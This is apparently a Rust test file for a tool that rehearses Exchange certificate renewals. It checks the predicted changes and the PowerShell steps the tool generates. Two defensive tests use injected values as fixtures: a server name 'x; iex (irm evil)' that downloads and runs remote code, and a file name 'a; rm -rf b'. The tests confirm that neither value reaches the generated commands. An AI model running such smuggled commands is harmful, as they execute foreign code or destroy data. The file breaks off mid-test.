//! Renewals, rehearsed on recordings of the lab: what is foretold of each, that nothing is foretold where nothing changes, and
//! what a person reads. The new certificates are of `fixtures/certs`, made with OpenSSL: `wildcard-same-names.pem` has the issuer
//! and the subject of the one that it replaces, `wildcard-new-issuer.pem` another issuer, and `-alone` comes without it; `wildcard-ecdsa.pem` has another
//! kind of key, and `wildcard-nameless.pem` no subject.

use crate::judgement::root;
use exchange_preflight::{
    compare::{compare, exit_code},
    recording::{Origin, Recording},
    rehearse::{Intention, Rehearsal},
    render::steps::{Step, steps},
    renewal::{Code, Renewal},
    report::{Report, Strictness, unrehearsed},
    trust_file,
    wire::stores::Stores,
};
use exchange_preflight_checks::{
    facts::{
        certificate::Certificate,
        export::{ExportedCertificate, InboundConnector, Services},
        raw::Raw,
        web::HttpsGet,
    },
    model::{
        ask::Facts,
        evidence::Observation,
        finding::{Finding, Verdict},
        inputs::InputFile,
    },
};
use insta::assert_snapshot;
use proptest::prelude::*;
use serde_json::{Value, json};
use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
    path::Path,
    process::Command,
};

const MEMBER: &str = "fixtures/runs/member.json";
const HEALTHY: &str = "fixtures/runs/healthy.json";
/// The wildcard certificate of `MEMBER`.
const OLD: &str = "03d2a710b2859eaa03d5e8b901a227798fddd6bf";
const PIN: &str = "<I>CN=Lab Public Issuing R1, O=Lab Trust Services, C=US<S>CN=*.contoso.com";

fn recording(file: &str) -> Recording {
    Recording::load(&root().join(file)).unwrap()
}

/// `MEMBER`, where port 25 of ex01 shows the wildcard certificate, too, and its connector names what it shows.
fn pinned() -> Recording {
    let mut all: Value = serde_json::from_slice(&fs::read(root().join(MEMBER)).unwrap()).unwrap();
    let observations = all["observations"].as_array_mut().unwrap();
    let of_web = |one: &&Value| one["ask"]["to"]["host"] == "ex01.contoso.com" && one["ask"]["to"]["port"] == 443;
    let chain = observations.iter().find(of_web).unwrap()["reply"]["facts"]["https"]["tls"]["chain"].clone();
    for one in observations.iter_mut() {
        let to = &one["ask"]["to"];
        let is_front = to["host"] == "ex01.contoso.com" && to["port"] == 25;
        if is_front && one["ask"]["what"]["smtp"]["upgrade"] == "start_tls" {
            *one.pointer_mut("/reply/facts/smtp/tls/chain").unwrap() = chain.clone();
        }
        let entries = one.pointer_mut("/reply/facts/search/entries").and_then(Value::as_array_mut);
        for entry in entries.into_iter().flatten() {
            if entry["dn"].as_str().unwrap().starts_with("CN=Default Frontend EX01,") {
                entry["attributes"]["msExchSmtpTLSCertificate"] = json!([PIN]);
            }
        }
    }
    Recording::parse(&all.to_string()).unwrap()
}

fn certificate(name: &str) -> Vec<Raw> {
    let file = root().join("fixtures/certs").join(name).with_extension("pem");
    trust_file::read(&file).unwrap().into_iter().map(|der| Raw(der.to_vec())).collect()
}

fn stores() -> Stores {
    let read = |name: &str| trust_file::read(&root().join("fixtures/certs").join(name).with_extension("pem")).unwrap();
    Stores::new(BTreeMap::from([("lab-public".to_string(), read("lab-public")), ("company".into(), read("company"))]))
}

fn supposing(name: &str) -> Intention {
    Intention { chain: certificate(name), has_key: true, ..Intention::default() }
}

/// What is foretold, as `class code subject`; the new certificate is `NEW`.
fn foretold(recording: Recording, intention: Intention) -> Vec<String> {
    let rehearsal = Rehearsal::of(recording, intention, &stores()).unwrap();
    let new = format!("sha1:{}", rehearsal.new.thumbprint);
    let renewal = Renewal::between(&rehearsal.before, &rehearsal.supposed).unwrap();
    let changes = renewal.changes.iter().map(|change| {
        format!("{} {} {}", change.code.class().word(), change.code.word(), change.subject.replace(&new, "NEW"))
    });
    changes.collect()
}

#[test]
fn the_same_issuer_and_subject_leave_open_which_is_shown() {
    let same = || supposing("wildcard-same-names");
    let renewed = ["25", "443"].map(|port| format!("wanted renewed ex01.contoso.com:{port}"));
    let others = ["ex02", "ex03"].map(|host| format!("wanted renewed {host}.contoso.com:443"));
    let named = ["EX01/Default Frontend EX01", "hybrid/TlsCertificateName", "send connector/Outbound to Office 365"];
    let left = named.map(|subject| format!("left same-names {subject}"));
    let wanted = [&renewed[..], &others[..]].concat();
    assert_eq!(foretold(pinned(), same()), [wanted.clone(), left.to_vec()].concat());
    let removed = Intention { remove: vec![OLD.to_uppercase()], ..same() };
    assert_eq!(foretold(pinned(), removed), wanted, "what is gone leaves nothing open");
}

#[test]
fn another_issuer_makes_pins_stale() {
    let other = || supposing("wildcard-new-issuer");
    let stale = [
        "unwanted issuer-changed NEW",
        "unwanted left-behind ex01.contoso.com:25",
        "unwanted pin-stale EX01/Default Frontend EX01",
        "unwanted pin-stale hybrid/TlsCertificateName",
        "unwanted pin-stale send connector/Outbound to Office 365",
    ];
    let renewed = ["ex01", "ex02", "ex03"].map(|host| format!("wanted renewed {host}.contoso.com:443"));
    let told = foretold(pinned(), other());
    assert_eq!(told, [&renewed[..], &stale.map(String::from)[..]].concat());
    let removed = foretold(pinned(), Intention { remove: vec![format!("sha1:{OLD}")], ..other() });
    let gone = "unwanted starttls-gone ex01.contoso.com:25".to_string();
    let expected: Vec<_> = told.into_iter().filter(|line| !line.contains("left-behind")).chain([gone]).collect();
    assert_eq!(removed, expected, "its pin fits none any more");
}

#[test]
fn one_server_of_several_is_left_behind() {
    let on = Intention { on: vec!["ex02.contoso.com".into()], ..supposing("wildcard-same-names") };
    let told = foretold(recording(MEMBER), on);
    let behind: Vec<_> = told.iter().filter(|line| line.contains("left-behind")).collect();
    assert_eq!(behind, ["unwanted left-behind ex01.contoso.com:443", "unwanted left-behind ex03.contoso.com:443"]);
}

#[test]
fn an_intermediate_that_did_not_come_along_is_missed() {
    let told = foretold(recording(MEMBER), supposing("wildcard-new-issuer-alone"));
    let shorter = told.iter().filter(|line| line.starts_with("unwanted chain-shorter")).count();
    assert_eq!(shorter, 3, "{told:?}");
    // The intermediate of another kin does not stand in for it, and that of its own does.
    let alone = Intention { chain: certificate("mail").into_iter().take(1).collect(), ..Intention::default() };
    let told = foretold(recording(HEALTHY), alone);
    assert!(told.contains(&"wanted renewed edge01.contoso.com:25".to_string()), "{told:?}");
}

#[test]
fn what_a_certificate_lost_is_told() {
    let lost = ["wanted renewed edge01.contoso.com:25", "unwanted names-lost NEW", "unwanted usage-lost NEW"];
    assert_eq!(foretold(recording(HEALTHY), supposing("mail-names-lost")), lost);
    let private = foretold(recording(HEALTHY), supposing("mail-of-company"));
    let untrusted = ["wanted renewed edge01.contoso.com:25", "unwanted issuer-changed NEW", "unwanted not-public NEW"];
    assert_eq!(private, untrusted);
    let healthy = foretold(recording(HEALTHY), supposing("mail"));
    assert_eq!(healthy, ["wanted renewed edge01.contoso.com:25"]);
}

/// What Get-ExchangeCertificate and Get-InboundConnector tell, in the forms that Microsoft documents.
#[test]
fn what_was_given_beside_is_held_against_the_new_one() {
    let mut given = recording(HEALTHY);
    let sessions = given.evidence.all::<exchange_preflight_checks::facts::smtp::SmtpSession>();
    let at_edge = sessions.filter(|(ask, ..)| ask.to.host == "edge01.contoso.com");
    let chains: Vec<_> = at_edge.filter_map(|(.., answer)| Some(answer.facts()?.tls.clone()?.chain)).collect();
    let old = chains.iter().find(|chain| chain.len() > 1).unwrap()[0].clone();
    let row = ExportedCertificate {
        server: "EDGE01".into(),
        thumbprint: Certificate::parse(&old.0).unwrap().thumbprint,
        services: Some(Services(16)),
        has_private_key: Some(true),
        der: Some(old),
        ..ExportedCertificate::default()
    };
    let connector = InboundConnector {
        name: "From Contoso".into(),
        is_enabled: true,
        is_on_premises: true,
        certificate_name: Some("edge01.contoso.com".into()),
        ..InboundConnector::default()
    };
    let thumbprint = row.thumbprint.clone();
    given.plan.inputs.certificates = Some(vec![row]);
    given.plan.inputs.inbound = Some(vec![connector]);
    let renewed = "wanted renewed edge01.contoso.com:25".to_string();
    let still = "left old-still-there edge01.contoso.com".to_string();
    assert_eq!(foretold(given.clone(), supposing("mail")), [renewed.clone(), still.clone()]);
    let removed = Intention { remove: vec![thumbprint], ..supposing("mail") };
    assert_eq!(foretold(given.clone(), removed), [renewed]);
    let lost = foretold(given, supposing("mail-names-lost"));
    assert!(lost.contains(&"unwanted tenant-mismatch inbound connector/From Contoso".to_string()), "{lost:?}");
}

#[test]
fn the_internal_certificate_is_not_to_go_with_it() {
    let on = vec!["ex01.contoso.com".to_string()];
    let yes = Intention { overwrites_default: true, on: on.clone(), ..supposing("wildcard-same-names") };
    let told = foretold(recording(MEMBER), yes);
    assert!(told.contains(&"unwanted internal-replaced ex01.contoso.com".to_string()), "{told:?}");
    let no = Intention { on, ..supposing("wildcard-same-names") };
    assert!(!foretold(recording(MEMBER), no).iter().any(|line| line.contains("internal")));
}

#[test]
fn a_certificate_that_begins_to_live_later_is_judged_then() {
    let rehearsal = Rehearsal::of(recording(HEALTHY), supposing("mail-later"), &stores()).unwrap();
    let report = Report::of(std::slice::from_ref(&rehearsal.supposed), Strictness::default()).unwrap();
    let about = |id: &str| {
        let of = |finding: &&Finding| {
            finding.check.id == id && finding.subject.to_string().contains(&rehearsal.new.thumbprint)
        };
        report.findings.iter().find(of).map(|finding| finding.verdict)
    };
    assert_eq!(
        (about("certificate-current"), about("certificate-trusted")),
        (Some(Verdict::Pass), Some(Verdict::Pass))
    );
    assert!(rehearsal.notes.iter().any(|note| note.contains("2026-12-01")), "{:?}", rehearsal.notes);
}

/// What a rehearsal cannot ask makes no trouble of its own.
#[test]
fn nothing_is_unknown_for_want_of_a_network() {
    for (file, name) in [(HEALTHY, "mail"), (MEMBER, "wildcard-new-issuer-alone"), (HEALTHY, "mail-of-company")] {
        let rehearsal = Rehearsal::of(recording(file), supposing(name), &Stores::default()).unwrap();
        let judge = |recording| Report::of(std::slice::from_ref(recording), Strictness::default()).unwrap();
        let (before, report) = (judge(&rehearsal.before), judge(&rehearsal.supposed));
        let unknown = |report: &Report| -> BTreeSet<String> {
            let all = report.findings.iter().filter(|finding| finding.verdict == Verdict::Unknown);
            all.map(|finding| format!("{} {}", finding.check.id, finding.subject)).collect()
        };
        let unknown: Vec<_> = unknown(&report).difference(&unknown(&before)).cloned().collect();
        assert!(unknown.is_empty(), "{name}: {unknown:?}");
        let told = report.findings.iter().filter(|finding| unrehearsed(finding).is_some()).count();
        assert!(told > 0, "{name}: roots of a store that is not here were not told of");
    }
}

#[test]
fn what_is_shown_already_changes_nothing() {
    let shown = recording(MEMBER);
    let chain = shown.evidence.all::<HttpsGet>();
    let chains = chain.filter_map(|(.., answer)| Some(answer.facts()?.tls.chain.clone()));
    let is_it = |chain: &Vec<Raw>| Certificate::parse(&chain[0].0).unwrap().thumbprint == OLD;
    let chain = chains.into_iter().find(is_it).unwrap();
    let rehearsal = Rehearsal::of(shown, Intention { chain, ..Intention::default() }, &stores()).unwrap();
    assert!(Renewal::between(&rehearsal.before, &rehearsal.supposed).is_none() && rehearsal.replaced.is_empty());
    assert!(rehearsal.before.evidence == rehearsal.supposed.evidence);
    let judge = |recording: &Recording| Report::of(std::slice::from_ref(recording), Strictness::default()).unwrap();
    let (before, supposed) = (judge(&rehearsal.before), judge(&rehearsal.supposed));
    let changes = compare(&before, &supposed, None);
    assert_eq!(exit_code(&changes, None), 0);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]
    /// Whatever is supposed, it holds together: held against itself nothing changed, and its file says the same again.
    #[test]
    fn a_rehearsal_held_against_itself_is_no_renewal(
        name in prop::sample::select(vec!["wildcard-same-names", "wildcard-new-issuer", "mail", "mail-names-lost"]),
        on in prop::sample::subsequence(vec!["ex01.contoso.com", "ex02.contoso.com", "edge01.contoso.com"], 1..3),
        has_pin: bool,
        overwrites_default: bool,
    ) {
        let recording = if has_pin { pinned() } else { recording(MEMBER) };
        let on = on.into_iter().map(String::from).collect();
        let intention = Intention { on, overwrites_default, ..supposing(name) };
        let Rehearsal { supposed, .. } = Rehearsal::of(recording, intention, &stores()).unwrap();
        prop_assert!(Renewal::between(&supposed, &supposed).is_none());
        let again = Recording::parse(&supposed.to_json()).unwrap();
        prop_assert_eq!(again.origin, Origin::Supposed);
        prop_assert!(again.evidence == supposed.evidence && again.plan == supposed.plan);
    }
}

/// `pinned()`, where these servers, as the directory names them, are the sources of the send connector.
fn sent_from(names: &[&str]) -> Recording {
    let mut all: Value = serde_json::from_str(&pinned().to_json()).unwrap();
    let found = all["observations"].as_array_mut().unwrap().iter_mut();
    let entries = found.filter_map(|one| one.pointer_mut("/reply/facts/search/entries")?.as_array_mut()).flatten();
    for entry in entries.filter(|entry| entry["dn"].as_str().unwrap().starts_with("CN=Outbound to Office 365,")) {
        let dns = names.iter().map(|name| format!("CN={name},CN=Servers,CN=Configuration,DC=contoso,DC=com"));
        entry["attributes"]["msExchSourceBridgeheadServersDN"] = dns.collect();
    }
    Recording::parse(&all.to_string()).unwrap()
}

fn advice(recording: Recording, name: &str, on: &[&str]) -> Vec<Step> {
    advised(recording, Intention { on: on.iter().map(ToString::to_string).collect(), ..supposing(name) })
}

fn advised(recording: Recording, intention: Intention) -> Vec<Step> {
    let rehearsal = Rehearsal::of(recording, intention, &stores()).unwrap();
    let renewal = Renewal::between(&rehearsal.before, &rehearsal.supposed);
    steps(&rehearsal, renewal.as_ref(), Path::new("before.json"))
}

fn commands(steps: &[Step]) -> Vec<&str> {
    steps.iter().flat_map(|step| &step.commands).map(String::as_str).collect()
}

fn at(commands: &[&str], words: &str) -> usize {
    let found = commands.iter().position(|command| command.contains(words));
    found.unwrap_or_else(|| panic!("{words}: {commands:#?}"))
}

/// What `Get-ExchangeCertificate` tells of `OLD` on a server.
fn exported(server: &str, services: Services) -> ExportedCertificate {
    ExportedCertificate {
        server: server.into(),
        thumbprint: OLD.into(),
        subject: "CN=*.contoso.com".into(),
        services: Some(services),
        has_private_key: Some(true),
        ..ExportedCertificate::default()
    }
}

/// An authority sends no key: it is on the server that made the request.
#[test]
fn a_key_is_fetched_from_where_it_is() {
    let without = || Intention { has_key: false, ..supposing("wildcard-new-issuer") };
    let steps = advised(pinned(), without());
    assert!(steps[0].said.starts_with("The file that was given has no key"), "{steps:#?}");
    let unknown = commands(&steps);
    assert_eq!(at(&unknown, "Import-ExchangeCertificate -Server <SERVER OF THE REQUEST> -FileData"), 0);
    assert_eq!(at(&unknown, "$pfx = Export-ExchangeCertificate -Server <SERVER OF THE REQUEST>"), 1);
    let mut requested = pinned();
    requested.plan.inputs.certificates = Some(vec![
        exported("EX02", Services(24)),
        ExportedCertificate {
            thumbprint: "0f".repeat(20),
            status: Some("PendingRequest".into()),
            ..exported("EX02", Services(0))
        },
    ]);
    let steps = advised(requested.clone(), without());
    let all = commands(&steps);
    assert_eq!(
        at(&all, "Import-ExchangeCertificate -Server ex02 -FileData ([System.IO.File]::ReadAllBytes('<NEW.CER>'))"),
        0
    );
    assert_eq!(at(&all, "$pfx = Export-ExchangeCertificate -Server ex02 "), 1);
    assert_eq!(all.iter().filter(|line| line.starts_with("Import-ExchangeCertificate -Server ex02")).count(), 1);
    let alone =
        advised(requested, Intention { on: vec!["ex02".into()], has_key: false, ..supposing("mail-of-company") });
    assert!(!commands(&alone).iter().any(|line| line.contains("ex02") && line.contains("$pfx")), "{alone:#?}");
    let with_key = advice(pinned(), "wildcard-new-issuer", &[]);
    assert!(!commands(&with_key).iter().any(|line| line.contains("Export-")), "it is in the file");
}

/// Each version has its own services, and POP and IMAP keep what they found as transport does.
#[test]
fn what_shows_it_is_restarted() {
    let mut all: Value = serde_json::from_str(&pinned().to_json()).unwrap();
    let found = all["observations"].as_array_mut().unwrap().iter_mut();
    let entries = found.filter_map(|one| one.pointer_mut("/reply/facts/search/entries")?.as_array_mut()).flatten();
    for entry in entries.filter(|entry| entry["dn"].as_str().unwrap().starts_with("CN=EX03,CN=Servers,")) {
        entry["attributes"]["serialNumber"] = json!(["Version 14.3 (Build 30123.4)"]);
    }
    let mut given = Recording::parse(&all.to_string()).unwrap();
    given.plan.inputs.certificates =
        Some(vec![exported("EX01", Services(24)), exported("EX02", Services(27)), exported("EX03", Services(26))]);
    let steps = advice(given, "wildcard-new-issuer", &[]);
    let restarts: Vec<_> = commands(&steps).into_iter().filter(|line| line.contains("Restart-Service")).collect();
    let transport = "MSExchangeTransport,MSExchangeFrontEndTransport";
    assert_eq!(
        restarts,
        [
            format!("Invoke-Command ex01.contoso.com {{ Restart-Service {transport} }}"),
            format!(
                "Invoke-Command ex02.contoso.com {{ Restart-Service {transport},MSExchangePOP3,MSExchangePOP3BE,MSExchangeIMAP4,\
                 MSExchangeIMAP4BE }}"
            ),
            "Invoke-Command ex03.contoso.com { Restart-Service MSExchangeTransport,MSExchangePOP3 }    # Exchange 2010 has no front end"
                .into(),
        ]
    );
    // The new one is a wildcard's, which POP and IMAP are not given.
    at(
        &commands(&steps),
        "Enable-ExchangeCertificate -Server ex02 -Thumbprint 2b09eec0a2295ac188a317239d4300d446b4406a -Services SMTP,IIS",
    );
    assert!(!commands(&steps).iter().any(|line| line.contains(",POP")));
    at(&commands(&steps), "Get-PopSettings -Server ex02 | Format-List X509CertificateName");
}

/// A connector's name holds for every server that sends by it.
#[test]
fn a_name_moves_only_when_each_source_has_the_new_one() {
    let steps = advice(pinned(), "wildcard-new-issuer", &["ex02.contoso.com"]);
    let commands = commands(&steps);
    let named = at(&commands, "Set-SendConnector");
    for server in ["ex01", "ex02", "ex03"] {
        assert!(at(&commands, &format!("Import-ExchangeCertificate -Server {server} ")) < named, "{commands:#?}");
        assert!(at(&commands, &format!("Invoke-Command {server}.contoso.com {{ Restart-Service")) > named);
    }
    assert!(
        commands[named].starts_with("$c = $null; $c = Get-ExchangeCertificate -Server ex02 "),
        "{}",
        commands[named]
    );
    assert!(commands[named].contains("; if ($c) { Set-SendConnector"));
    let blocking = steps.iter().find(|step| step.said.starts_with("Before anything is named")).unwrap();
    assert!(blocking.said.contains("ex01.contoso.com, ex03.contoso.com send "), "{}", blocking.said);
    let all = advice(pinned(), "wildcard-new-issuer", &[]);
    assert!(!all.iter().any(|step| step.said.starts_with("Before anything is named")), "each has it then");
}

#[test]
fn a_source_enters_a_command_only_as_a_name() {
    for name in ["wildcard-new-issuer", "wildcard-same-names"] {
        let steps = advice(sent_from(&["EX01", "x; iex (irm evil)"]), name, &[]);
        assert!(!steps.iter().any(|step| format!("{step:?}").contains("iex")), "{steps:#?}");
        assert!(commands(&steps).iter().any(|command| command.contains("# on <SERVER> itself")), "{steps:#?}");
    }
}

/// Who names nothing while a server sends, has it send without a certificate.
#[test]
fn nothing_is_stopped_where_the_sources_are_not_known() {
    let steps = advice(sent_from(&[]), "wildcard-same-names", &[]);
    let commands = commands(&steps);
    assert!(!commands.iter().any(|line| line.contains("$null }") || line.contains("-TlsCertificateName $null")));
    assert!(!commands.iter().any(|line| line.contains("Stop-Service")), "{commands:#?}");
    at(&commands, "Get-SendConnector \"Outbound to Office 365\" | Format-List SourceTransportServers");
    at(&commands, "Remove-ExchangeCertificate -Server ex01");
}

#[test]
fn an_edge_is_stopped_on_itself() {
    let steps = advice(sent_from(&["EX01", "edge01"]), "wildcard-same-names", &[]);
    let commands = commands(&steps);
    let stop = at(&commands, "Invoke-Command ex01.contoso.com { Stop-Service MSExchangeTransport }");
    assert_eq!(commands[stop + 1], "Stop-Service MSExchangeTransport    # on edge01.contoso.com itself");
    assert!(at(&commands, "-TlsCertificateName $null") > stop && at(&commands, "Start-EdgeSynchronization") > stop);
    assert!(
        !commands.iter().any(|line| line.starts_with("Invoke-Command") && line.contains("edge01")),
        "{commands:#?}"
    );
}

#[test]
fn each_former_one_is_removed_once() {
    let steps = advice(sent_from(&["EX01"]), "wildcard-same-names", &[]);
    let commands = commands(&steps);
    let of = |server: &str| {
        let command = format!("Remove-ExchangeCertificate -Server {server} -Thumbprint {OLD}");
        assert_eq!(commands.iter().filter(|line| **line == command).count(), 1, "{commands:#?}");
        at(&commands, &command)
    };
    let started = at(&commands, "{ Start-Service");
    assert!(of("ex01") < started && of("ex02") > started && of("ex03") > started, "a server that sends is done with");
}

/// A server cannot do without its internal transport certificate.
#[test]
fn what_servers_know_one_another_by_is_replaced_before_it_is_removed() {
    let mut all: Value = serde_json::from_str(&pinned().to_json()).unwrap();
    let old = pinned().evidence.all::<HttpsGet>().find_map(|(.., answer)| {
        let leaf = &answer.facts()?.tls.chain[0];
        (Certificate::parse(&leaf.0).unwrap().thumbprint == OLD).then(|| serde_json::to_value(leaf).unwrap())
    });
    let found = all["observations"].as_array_mut().unwrap().iter_mut();
    let entries = found.filter_map(|one| one.pointer_mut("/reply/facts/search/entries")?.as_array_mut()).flatten();
    let of_ex01 = |entry: &&mut Value| {
        entry["dn"].as_str().unwrap().starts_with("CN=EX01,CN=Servers,")
            && !entry["attributes"]["msExchServerInternalTLSCert"].is_null()
    };
    for entry in entries.filter(of_ex01) {
        entry["attributes"]["msExchServerInternalTLSCert"] = json!([old.clone().unwrap()]);
    }
    let given = Recording::parse(&all.to_string()).unwrap();
    for name in ["wildcard-same-names", "wildcard-new-issuer"] {
        let steps = advice(given.clone(), name, &[]);
        let commands = commands(&steps);
        let made: Vec<_> = commands.iter().filter(|line| line.starts_with("New-ExchangeCertificate")).collect();
        assert_eq!(made, [&"New-ExchangeCertificate -Server ex01 -Services SMTP"], "{commands:#?}");
        assert!(at(&commands, "New-ExchangeCertificate") < at(&commands, "Remove-ExchangeCertificate -Server ex01"));
    }
    let others = advice(pinned(), "wildcard-same-names", &[]);
    assert!(!commands(&others).iter().any(|line| line.starts_with("New-ExchangeCertificate")));
}

#[test]
fn the_next_run_is_made_as_the_last() {
    let mut last = pinned();
    let plan = &mut last.plan;
    plan.exchange_vantage = true;
    let file = |name: &str| InputFile { name: name.into(), kind: "send log".into(), rows: 1 };
    plan.inputs.files = vec![file("EX01=SEND1.LOG"), file("a; rm -rf b"), file("EX01=SEND1.LOG")];
    let run = |recording: &Recording| {
        let steps = advice(recording.clone(), "wildcard-new-issuer", &[]);
        let commands = commands(&steps);
        commands[at(&commands, "exchange-preflight run ")].to_string()
    };
    let inputs =
        "--user reader@contoso.com --exchange-vantage --input EX01=SEND1.LOG --input <FILE> --record after.json";
    assert_eq!(run(&last), format!("exchange-preflight run --plan <PLAN.TOML> {inputs}"));
    last.plan.servers.retain(|server| server.name.starts_with("ex02"));
    last.plan.stores.clear();
    assert_eq!(run(&last), format!("exchange-preflight run --domain contoso.com --server ex02.contoso.com {inputs}"));
}

#[test]
fn what_exchange_cannot_take_or_name_is_not_to_be_installed() {
    let first = |name: &str| advice(pinned(), name, &[]).remove(0).said;
    assert!(first("wildcard-ecdsa").starts_with("It has an ECDSA key"), "{}", first("wildcard-ecdsa"));
    assert!(first("wildcard-nameless").starts_with("Do not install it: connectors name the former one"));
    let nameless = advice(pinned(), "wildcard-nameless", &[]);
    assert!(!commands(&nameless).iter().any(|line| line.contains("-TlsCertificateName")), "{nameless:#?}");
    let usual = advice(pinned(), "wildcard-new-issuer", &[]);
    assert!(usual[0].said.starts_with("Import it"), "{usual:#?}");
}

/// No shell but an Edge server's own reaches it, and a name in a file may be a slip.
#[test]
fn a_server_that_only_a_file_names_is_told_of() {
    let mut given = pinned();
    given.plan.inputs.certificates = Some(vec![exported("EX99", Services(24))]);
    let steps = advice(given, "wildcard-new-issuer", &[]);
    assert!(steps.iter().any(|step| step.said.contains("Neither the plan nor the directory knows ex99")), "{steps:#?}");
    let of_it: Vec<_> = commands(&steps).into_iter().filter(|line| line.contains("ex99")).collect();
    assert!(!of_it.is_empty() && of_it.iter().all(|line| line.ends_with("# on ex99 itself")), "{of_it:#?}");
}

/// The management shell of each server hangs on it.
#[test]
fn the_back_end_is_bound_by_itself() {
    let mut all: Value = serde_json::from_str(&pinned().to_json()).unwrap();
    let observations = all["observations"].as_array_mut().unwrap();
    let at_port = |one: &&mut Value, port: u16| {
        one["ask"]["to"]["host"] == "ex01.contoso.com" && one["ask"]["to"]["port"] == port
    };
    let chain =
        observations.iter_mut().find(|one| at_port(one, 443)).unwrap()["reply"]["facts"]["https"]["tls"]["chain"]
            .clone();
    for one in observations.iter_mut().filter(|one| at_port(one, 444)) {
        if let Some(shown) = one.pointer_mut("/reply/facts/https/tls/chain") {
            *shown = chain.clone();
        }
    }
    let steps = advice(Recording::parse(&all.to_string()).unwrap(), "wildcard-new-issuer", &[]);
    let commands = commands(&steps);
    let bound = at(&commands, "Get-WebBinding -Name 'Exchange Back End' -Port 444");
    assert!(commands[bound].starts_with("Invoke-Command ex01.contoso.com {"), "{}", commands[bound]);
    assert!(bound < at(&commands, "Remove-ExchangeCertificate -Server ex01"));
    assert!(!commands.iter().any(|line| line.contains("ex02") && line.contains("Back End")));
}

/// A server that answers no more is not known to have been renewed.
#[test]
fn what_was_not_seen_again_is_still_to_be_done() {
    let rehearsal = Rehearsal::of(recording(MEMBER), supposing("wildcard-same-names"), &stores()).unwrap();
    let whole = Renewal::between(&rehearsal.before, &rehearsal.supposed).unwrap();
    assert!(!whole.changes.iter().any(|change| change.code == Code::NotSeen), "{:?}", whole.changes);
    let mut after = rehearsal.supposed;
    after.evidence = after.evidence.iter().filter(|one| one.ask.to.host != "ex03.contoso.com").cloned().collect();
    let renewal = Renewal::between(&rehearsal.before, &after).unwrap();
    let left: Vec<_> = renewal.changes.iter().filter(|change| change.code == Code::NotSeen).collect();
    assert_eq!(left.iter().map(|change| &*change.subject).collect::<Vec<_>>(), ["ex03.contoso.com:443"]);
    assert!(!renewal.is_complete() && !renewal.reason().contains("everywhere"), "{}", renewal.reason());
}

/// What a website alone shows, Exchange Online never sees.
#[test]
fn a_tenant_looks_at_what_goes_out_by_smtp() {
    const SMTP: Services = Services(16);
    const IIS: Services = Services(8);
    let mismatched = |services: Services| {
        let mut given = recording(HEALTHY);
        let is_at_edge = |one: &Observation| one.ask.to.host == "edge01.contoso.com";
        let leaf = |one: &Observation| match one.reply.facts.as_ref()? {
            Facts::SmtpSession(session) => {
                session.tls.as_ref().filter(|tls| tls.chain.len() > 1)?.chain.first().cloned()
            }
            _ => None,
        };
        let old = given.evidence.iter().filter(|one| is_at_edge(one)).find_map(leaf).unwrap();
        given.evidence = given.evidence.iter().filter(|one| !is_at_edge(one)).cloned().collect();
        given.plan.inputs.certificates = Some(vec![ExportedCertificate {
            server: "EDGE01".into(),
            thumbprint: Certificate::parse(&old.0).unwrap().thumbprint,
            services: Some(services),
            has_private_key: Some(true),
            der: Some(old),
            ..ExportedCertificate::default()
        }]);
        given.plan.inputs.inbound = Some(vec![InboundConnector {
            name: "From Contoso".into(),
            is_enabled: true,
            is_on_premises: true,
            certificate_name: Some("edge01.contoso.com".into()),
            ..InboundConnector::default()
        }]);
        let on = vec!["edge01.contoso.com".to_string()];
        let told = foretold(given, Intention { on, ..supposing("mail-names-lost") });
        assert!(told.contains(&"unwanted names-lost NEW".to_string()), "{told:?}");
        told.iter().any(|line| line.contains("tenant-mismatch"))
    };
    assert!(SMTP.smtp() && IIS.iis() && !IIS.smtp());
    assert!(mismatched(SMTP) && !mismatched(IIS));
}

fn told(arguments: &[&str]) -> String {
    let mut command = Command::new(env!("CARGO_BIN_EXE_exchange-preflight"));
    let output = command.args(arguments).current_dir(root()).env_clear().output().unwrap();
    let (out, err) = (String::from_utf8(output.stdout).unwrap(), String::from_utf8(output.stderr).unwrap());
    format!("$ exchange-preflight {}\n{out}{err}exit {}\n", arguments.join(" "), output.status.code().unwrap())
}

const ROOTS: &str = "fixtures/certs/lab-public.pem";

#[test]
fn what_a_person_reads_of_a_rehearsal() {
    let of = |recording: &str, name: &str| {
        let file = format!("fixtures/certs/{name}.pem");
        told(&[
            "rehearse",
            recording,
            "--certificate",
            &file,
            "--trust",
            ROOTS,
            "--trust",
            "fixtures/certs/company.pem",
        ])
    };
    assert_snapshot!(of(MEMBER, "wildcard-new-issuer"));
    assert_snapshot!(of(MEMBER, "wildcard-same-names"));
    assert_snapshot!(of(HEALTHY, "mail-of-company"));
}

#[test]
fn a_rehearsal_is_kept_and_says_what_it_is() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("supposed.json");
    let file = file.to_str().unwrap();
    let certificate = "fixtures/certs/mail-names-lost.pem";
    let form = ["--format", "json"];
    let rehearse = ["rehearse", HEALTHY, "--certificate", certificate, "--trust", ROOTS, "--record", file];
    let json = |text: &str| -> Value {
        let (_, rest) = text.split_once('\n').unwrap();
        serde_json::from_str(rest.rsplit_once("exit ").unwrap().0).unwrap()
    };
    let rehearsed = json(&told(&[&rehearse[..], &form[..]].concat()));
    let compared = json(&told(&["compare", HEALTHY, file, "--format", "json"]));
    assert_eq!(rehearsed["renewal"], compared["renewal"], "one serialisation for both");
    assert_eq!((&rehearsed["exit_code"], &compared["exit_code"]), (&json!(1), &json!(1)));
    assert!(told(&["replay", file]).contains("supposed, not seen"));
    assert!(told(&["compare", HEALTHY, file]).contains("supposed, not seen"));
    assert!(
        told(&["rehearse", file, "--certificate", certificate])
            .contains("supposed and not seen; rehearse on one of a run")
    );
    let schema = json(&told(&["schema", "rehearsal"]));
    let fields = |value: &Value| value.as_object().unwrap().keys().cloned().collect::<Vec<_>>();
    assert_eq!(fields(&rehearsed), fields(&schema["properties"]));
}

#[test]
fn what_cannot_be_supposed_ends_with_2() {
    let mail = "fixtures/certs/mail.pem";
    for (arguments, word) in [
        (&[HEALTHY, "--certificate", mail, "--on", "ex09.contoso.com"][..], "it knows edge01.contoso.com, ex01"),
        (&[HEALTHY, "--certificate", mail, "--remove", "00ff"], "it knows:\n  "),
        (&[MEMBER, "--certificate", mail, "--remove", OLD], "no server has it that is to have the new one, but ex01"),
        (&[HEALTHY, "--certificate", "fixtures/certs/stranger.pem"], "by --on"),
        (&[HEALTHY, "--certificate", "README.md"], "the certificate README.md"),
        (&["README.md", "--certificate", mail], "not a recording"),
    ] {
        let told = told(&[&["rehearse"], arguments].concat());
